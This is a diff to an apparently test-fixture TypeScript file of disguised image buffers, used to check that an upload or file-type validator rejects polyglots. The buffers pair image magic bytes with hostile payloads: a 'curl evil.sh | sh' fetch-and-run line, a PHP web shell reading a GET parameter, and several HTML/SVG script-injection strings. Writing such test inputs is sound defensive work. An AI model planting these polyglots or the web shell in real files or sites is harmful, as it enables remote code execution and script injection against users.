@@ -93,12 +93,17 @@ export const JXL_CODESTREAMS: readonly Buffer[] = [
   ),
 ]
 
-/** The `ftyp` box a HEIF file starts with (brand `heic`, compatible `mif1`, `heic`), and padding. */
+/**
+ * The `ftyp` box a HEIF file starts with (brand `heic`, compatible `mif1`, `heic`), and the
+ * start of the `meta` box that follows it.
+ */
 export function heifHeader(): Buffer {
   return Buffer.concat([
     Buffer.from([0, 0, 0, 24]),
     Buffer.from('ftypheic\0\0\0\0mif1heic', 'latin1'),
-    Buffer.alloc(16),
+    Buffer.from([0, 0, 0, 16]),
+    Buffer.from('meta', 'latin1'),
+    Buffer.alloc(8),
   ])
 }
 
@@ -120,4 +125,22 @@ export const DISGUISED: Readonly<Record<string, Buffer>> = {
   'BM + shell script (bmp)': Buffer.from('BM\n#!/bin/sh\ncurl evil.sh | sh\n'),
   'FF 0A + SVG (bare jxl)': Buffer.concat([Buffer.from([0xff, 0x0a]), Buffer.from('<svg onload=alert(1)>')]),
   'II*\\0 + PHP (tiff)': Buffer.from('II*\0<?php system($_GET[c]); ?>'),
+  'GIF89a + HTML/JS (gif)': Buffer.from('GIF89a<html><script>alert(document.domain)</script></html>'),
+  'GIF89a + JS, the GIF/JS polyglot (gif)': Buffer.from('GIF89a=1;alert(document.domain)//'),
+  'RIFF…WEBP + HTML (webp)': Buffer.from('RIFF    WEBPVP8 <html><script>alert(document.domain)</script>'),
+  'ftyp avif + HTML (avif)': Buffer.concat([
+    Buffer.from([0, 0, 0, 16]),
+    Buffer.from('ftypavif\0\0\0\0<html><script>alert(document.domain)</script>', 'latin1'),
+  ]),
+  'FF D8 FF + HTML (jpeg)': Buffer.from(
+    '\xff\xd8\xff\xe0<html><script>alert(document.domain)</script>',
+    'latin1',
+  ),
+  'PNG signature + HTML (png)': Buffer.concat([
+    Buffer.from('89504e470d0a1a0a', 'hex'),
+    Buffer.from('<html><script>alert(document.domain)</script>'),
+  ]),
+  'GIF89a alone (gif)': Buffer.from('GIF89a'),
+  'FF D8 FF alone (jpeg)': Buffer.from([0xff, 0xd8, 0xff]),
+  'PNG signature alone (png)': Buffer.from('89504e470d0a1a0a', 'hex'),
 }
